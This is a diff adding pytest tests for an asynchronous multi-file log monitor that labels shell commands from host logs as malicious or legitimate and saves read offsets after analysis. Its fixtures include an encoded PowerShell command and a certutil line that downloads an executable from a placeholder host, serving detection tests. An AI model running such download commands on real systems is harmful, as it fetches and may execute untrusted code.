@@ -0,0 +1,72 @@
+import asyncio
+from async_monitor import MultiSourceMonitor
+
+
+def test_multi_source_monitor_tags_sources(tmp_path):
+    hosts = tmp_path / "hosts"
+    hosts.mkdir()
+    (hosts / "host1.log").write_text("")
+    (hosts / "host2.log").write_text("")
+    seen = []
+
+    async def scenario():
+        monitor = MultiSourceMonitor(str(hosts), on_verdict=lambda src, cmd, res: seen.append(res),
+                                     poll_interval=0.01, rescan_interval=0.05)
+        ready = asyncio.Event()
+        task = asyncio.create_task(monitor.run(ready))
+        await ready.wait()
+
+        with open(hosts / "host1.log", "a") as f:
+            f.write("powershell -enc aGVsbG8=\nping 8.8.8.8\n")
+        (hosts / "host3.log").write_text("certutil -urlcache -f http://x/a.exe\n")
+
+        for _ in range(200):
+            if len(seen) >= 3:
+                break
+            await asyncio.sleep(0.02)
+        monitor.stop()
+        await task
+        return monitor
+
+    monitor = asyncio.run(scenario())
+    by_source = {(r["source"].split("/")[-1], r["verdict"]) for r in seen}
+    assert by_source == {("host1.log", "malicious"), ("host1.log", "legitimate"),
+                         ("host3.log", "malicious")}
+    assert len(monitor.sources) == 3
+
+
+def test_multi_source_monitor_commits_offsets_after_analysis(tmp_path):
+    hosts = tmp_path / "hosts"
+    hosts.mkdir()
+    log = hosts / "host1.log"
+    log.write_text("")
+    offsets = tmp_path / "offsets"
+    saved_at_verdict = []
+
+    def on_verdict(src, cmd, res):
+        # The offset covering this command must not be on disk before it is analyzed
+        saved_at_verdict.append(sorted(p.name for p in offsets.glob("*.offset.json")))
+
+    async def run_until(count):
+        monitor = MultiSourceMonitor(str(hosts), on_verdict=on_verdict, poll_interval=0.01,
+                                     offset_dir=str(offsets))
+        ready = asyncio.Event()
+        task = asyncio.create_task(monitor.run(ready))
+        await ready.wait()
+        if not saved_at_verdict:
+            with open(log, "a") as f:
+                f.write("whoami\nping 8.8.8.8\n")
+        for _ in range(200):
+            if len(saved_at_verdict) >= count:
+                break
+            await asyncio.sleep(0.02)
+        monitor.stop()
+        await task
+
+    asyncio.run(run_until(2))
+    assert saved_at_verdict == [[], []]
+
+    with open(log, "a") as f:
+        f.write("hostname\n")    # written while the monitor was down
+    asyncio.run(run_until(3))
+    assert len(saved_at_verdict) == 3